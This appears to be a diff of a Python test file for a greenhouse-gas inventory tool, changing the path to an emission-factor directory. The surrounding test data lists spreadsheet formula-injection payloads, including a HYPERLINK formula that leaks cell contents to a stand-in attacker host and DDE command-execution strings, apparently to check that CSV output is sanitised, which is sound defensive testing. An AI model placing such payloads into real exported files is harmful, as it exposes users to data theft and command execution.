@@ -25,7 +25,7 @@ from ghginv.runfolder import write_csv
 
 from conftest import ROOT, write_activity
 
-ENERGY = ROOT / "factors" / "ipcc2006_energy"
+ENERGY = ROOT / "ghginv" / "data" / "factor_sets" / "ipcc2006_energy"
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1"]
 ORDINARY = ["510105", "青羊区", "a=b", "Qingyang-2"]
